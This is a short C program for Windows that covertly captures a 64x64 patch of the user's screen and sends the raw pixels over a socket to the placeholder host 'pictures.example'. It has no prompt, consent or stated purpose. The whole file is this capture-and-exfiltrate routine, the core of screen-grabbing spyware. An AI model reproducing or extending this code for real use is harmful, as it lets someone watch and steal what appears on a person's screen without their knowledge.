/* libs: -lws2_32 -lgdi32 */
#include <stdlib.h>
#include <winsock2.h>
#include <windows.h>

int main(void) {
    WSADATA data;
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(80)};
    HDC screen = GetDC(NULL), copy = CreateCompatibleDC(screen);
    HBITMAP picture = CreateCompatibleBitmap(screen, 64, 64);
    BITMAPINFO form = {{40, 64, -64, 1, 32}};
    char *pixels = malloc(64 * 64 * 4);
    SOCKET line;
    SelectObject(copy, picture);
    BitBlt(copy, 0, 0, 64, 64, screen, 0, 0, SRCCOPY);
    GetDIBits(copy, picture, 0, 64, pixels, &form, 0);
    WSAStartup(0x202, &data);
    line = socket(AF_INET, SOCK_STREAM, 0);
    memcpy(&peer.sin_addr, gethostbyname("pictures.example")->h_addr, 4);
    connect(line, (void *)&peer, sizeof peer);
    send(line, pixels, 64 * 64 * 4, 0);
    return 0;
}
